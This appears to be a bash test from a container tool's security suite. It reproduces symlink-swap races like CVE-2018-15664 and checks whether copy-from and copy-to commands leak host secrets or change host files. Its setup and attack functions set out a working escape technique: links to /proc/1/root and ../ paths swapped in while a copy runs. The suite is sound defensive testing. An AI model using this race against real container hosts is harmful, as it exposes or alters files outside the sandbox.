# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

WHAT='CVE-2018-15664, 2019-14271, 2022-0778 and kin: root inside swaps what is copied, and where it goes, for links out of the tree'
RIVALS=

outside() { find "$PREY/out" -printf '%p %y %m %s %T@ %l\n' | sort; }

setup() {
        bring exchange
        mkdir -p "$PREY/out/deep" "$TREE/data/sub/deep" "$TREE/drop/deep"
        secret >"$PREY/out/file"
        secret >"$PREY/out/deep/file"
        echo "the machine's" | tee "$TREE/data/file" "$TREE/data/sub/file" "$TREE/data/sub/deep/file" >/dev/null
        ln -s "$PREY/out/file" "$TREE/data/file.link"
        ln -s "$PREY/out" "$TREE/data/sub.link"
        ln -s "/proc/1/root$PREY/out/deep" "$TREE/data/sub/deep.link"
        ln -s "../../../../../../../..$PREY/out" "$TREE/drop.link"
        ln -s "$PREY/out/deep" "$TREE/drop/deep.link"
        outside >"$PREY/before"
}

attack() {
        exchange / drop >/dev/null 2>&1 &
        exchange /data file sub >/dev/null 2>&1 &
        exchange /data/sub deep >/dev/null 2>&1 &
        exchange /drop deep >/dev/null 2>&1 &
        echo swapping
}

wrong() { echo "$*" >>"$SCRATCH/wrong"; }

meanwhile() {
        local round command done=0
        rm -f "$SCRATCH/wrong"
        mkdir "$PREY/tree" "$PREY/tree/deep"
        echo new | tee "$PREY/tree/file" "$PREY/tree/deep/file" >/dev/null
        for round in $(seq 12); do
                for command in "copy-from $NAME /data $PREY/came" "copy-from $NAME /data/file $PREY/came" "copy-from $NAME /data/sub/file $PREY/came" \
                        "copy-to $NAME --force $PREY/tree /drop" "copy-to $NAME --force $PREY/tree/file /drop/deep/file" \
                        "copy-to $NAME --force $PREY/tree/file /drop/" "copy-from $NAME / $PREY/came"; do
                        # shellcheck disable=SC2086
                        if timeout -k 5 "$((20 * PATIENCE))" nbox $command >>"$SCRATCH/verbs" 2>&1 </dev/null; then done=$((done + 1)); fi
                        # Links as such are no harm: who follows one on the host is another matter.
                        [ ! -e "$PREY/came" ] || [ -L "$PREY/came" ] || ! find "$PREY/came" -type f -exec cat {} + | grep -qF "$(secret)" || wrong "copied by $command"
                        rm -rf "$PREY/came"
                done
        done
        [ "$done" -ge 12 ] || wrong "only $done were done: $(tail -n 2 "$SCRATCH/verbs" | paste -sd ' ')"
        printed swapping || wrong "nothing was swapped"
}

verdict() {
        outside | cmp -s "$PREY/before" - || wrong "changed: $(outside | comm -13 "$PREY/before" - | cut -d ' ' -f 1 | paste -sd ' ')"
        if [ -s "$SCRATCH/wrong" ]; then works "$(sort -u "$SCRATCH/wrong" | paste -sd ';')"; else blocked "the host's files are as they were, and in no copy"; fi
}

# By path, with the same swaps.
control() {
        local swapper end=$((SECONDS + 20 * PATIENCE))
        "$ATTACKS/exchange" "$TREE" drop &
        swapper=$!
        while [ "$SECONDS" -lt "$end" ] && outside | cmp -s "$PREY/before" -; do
                [ -L "$TREE/drop" ] || echo new >"$TREE/drop/file"
        done
        kill "$swapper"
        wait "$swapper" || true
        if outside | cmp -s "$PREY/before" -; then blocked "by the control"; else works "written to where the link leads"; fi
}
